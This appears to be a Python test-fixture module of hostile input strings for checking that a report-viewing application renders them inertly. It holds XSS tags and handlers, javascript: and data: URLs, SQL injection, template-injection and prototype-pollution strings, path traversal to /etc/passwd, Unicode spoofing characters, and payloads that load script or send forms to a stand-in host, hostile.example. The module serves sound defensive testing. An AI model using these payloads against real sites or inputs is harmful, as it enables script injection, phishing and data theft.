"""Strings that a hostile report, name or question may hold, and how to tell that one of them ran.

Each is inert as text. `MARK` is what every script among them would set on ``window``; a page that shows them
all and has no such property, no dialog, no request to another host and no element of their making is sound.
Sources: OWASP's XSS filter evasion cheat sheet, PortSwigger's lists, Trojan Source (CVE-2021-42574), UTS 39.
"""

from __future__ import annotations

from collections.abc import Iterator

MARK = "hostileRan"
RUN = f"window.{MARK}=1"
ELSEWHERE = "hostile.example"

TAGS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt >{RUN}</sCrIpT>",
    f"</script><script>{RUN}</script>",
    f"</textarea></title></style><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script>",
    f"<<script>{RUN}//<</script>",
    f"<script\x00>{RUN}</script>",
    f"<script src=//{ELSEWHERE}/x.js></script>",
    f"<base href=//{ELSEWHERE}/>",
    f"<meta http-equiv=refresh content='0;url=//{ELSEWHERE}/'>",
    f"<link rel=stylesheet href=//{ELSEWHERE}/x.css>",
    f"<iframe srcdoc='<script>parent.{MARK}=1</script>'></iframe>",
    f"<object data='data:text/html,<script>{RUN}</script>'></object>",
    f"<form action=//{ELSEWHERE}/><input name=csrf><button>Sign in</button></form>",
    "<style>*{display:none}</style>",
    "<dialog open>Your session has ended</dialog>",
)
HANDLERS = (
    f"<img src=x onerror={RUN}>",
    f"<img src=x:x onerror='{RUN}'>",
    f"<svg onload={RUN}>",
    f"<svg><animate onbegin={RUN} attributeName=x></svg>",
    f"<svg><script>{RUN}</script></svg>",
    f"<math><mtext><img src=x onerror={RUN}></mtext></math>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f'" onmouseover="{RUN}" x="',
    f"' onfocus='{RUN}' autofocus tabindex='1",
    f'"><img src=x onerror={RUN}>',
    f"`><img src=x onerror={RUN}>",
    f"<x contenteditable onblur={RUN}>lose focus</x>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<template><img src=x onerror={RUN}></template>",
)
ADDRESSES = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"\x01javascript:{RUN}",
    f" javascript:{RUN}//https://example.org/",
    f"javascript://example.org/%0A{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"data:text/html;base64,{'PHNjcmlwdD53aW5kb3cuaG9zdGlsZVJhbj0xPC9zY3JpcHQ+'}",
    f"vbscript:{RUN}",
    f"//{ELSEWHERE}/",
    f"https://example.org@{ELSEWHERE}/",
    f"\\\\{ELSEWHERE}\\share",
    "file:///etc/passwd",
)
TEMPLATES = (
    "{{7*7}}",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    f"{{@html '<img src=x onerror={RUN}>'}}",
    "{#if true}shown{/if}",
    "[[${7*7}]]",
    "%s%n%x",
    "__proto__",
    "constructor",
    "toString",
    "hasOwnProperty",
    '{"__proto__": {"polluted": 1}}',
)
UNICODE = (
    "\u202egnp.exe",  # right-to-left override
    "\u2066\u2067\u2068isolates never closed",
    "\u200f\u200emarks\u061c",
    "zero\u200bwidth\u200cjoin\u200d\ufeffers",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a\u032f\u031e\u0320\u034d"
    * 6,
    "\u0430dmin (a Cyrillic a)",
    "\uff1cscript\uff1e\uff41lert(1)\uff1c/script\uff1e",  # full-width signs that NFKC folds
    "\u02bcquotes\u02bc \u2039angles\u203a",
    "\ufdfd\ufdfa",
    "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466\U0001f1fa\U0001f1f3\U0001f3f4\U000e0067\U000e007f",
    "e\u0301 and \u00e9, \u1e69 and s\u0323\u0307",
    "\u0645\u0631\u062d\u0628\u0627 <b>bold</b> \u05e9\u05dc\u05d5\u05dd 123",
    "nul\x00 bell\x07 escape\x1b[31mred\x1b[0m backspace\x08",
    "line\u2028separator\u2029paragraph\x85next",
    "\ue000private\ue001\ue002 \ufffe\uffff",
    "\U0001d4d0\U0001d4d1\U0001d4d2",
)
HUGE = (
    "W" * 5_000,
    "\u0644" * 2_000,
    "word " * 1_000,
    "\u0301" * 500,
    "\n" * 300,
    "((((((((((" * 100,
)
QUERIES = (
    "' OR 1=1 --",
    '" OR "1"="1',
    "'; DROP TABLE found; --",
    "NEAR(a b)",
    "body:*",
    '"unclosed',
    "a* OR b*",
    "%00",
    "%3Cscript%3E",
    "../../etc/passwd",
    "..\\..\\windows",
    "&id=x#fragment",
    "?as_of=2020&as_of=2021",
)

EVERYTHING = (*TAGS, *HANDLERS, *ADDRESSES, *TEMPLATES, *UNICODE, *HUGE, *QUERIES)
"""For report texts, reasons and questions."""
SHORT = tuple(each[:80] for each in EVERYTHING)
"""For what may not be long: titles, publishers, names."""
NAMES = tuple(
    cleaned for each in EVERYTHING if (cleaned := "".join(s for s in each if s.isprintable()).strip()[:80])
)
"""For names of people, which hold printable signs only."""


def reports() -> Iterator[dict[str, str]]:
    """Reports (as JSON Lines has them) that hold all of it: in id, title, publisher, address and text, each
    with a claim and a quotation around it, so that it comes through to parties, statements and disputes."""
    for n, each in enumerate(EVERYTHING):
        text = (
            f"{each}\n\nAt least {n + 2} people were killed in Greymouth on Sunday, "
            f"the {SHORT[n][:40]} ministry said. “{each}”, said Ilka {SHORT[n][:30]}, the mayor. "
            f"The army denied it: “{n + 3} died.”"
        )
        yield {
            "id": f"hostile-{n} {SHORT[n][:40]}".replace("\x00", ""),
            "text": text,
            "title": SHORT[n],
            "publisher": SHORT[n][:60],
            "published": f"2031-03-{n % 28 + 1:02}",
            "url": ADDRESSES[n % len(ADDRESSES)],
        }
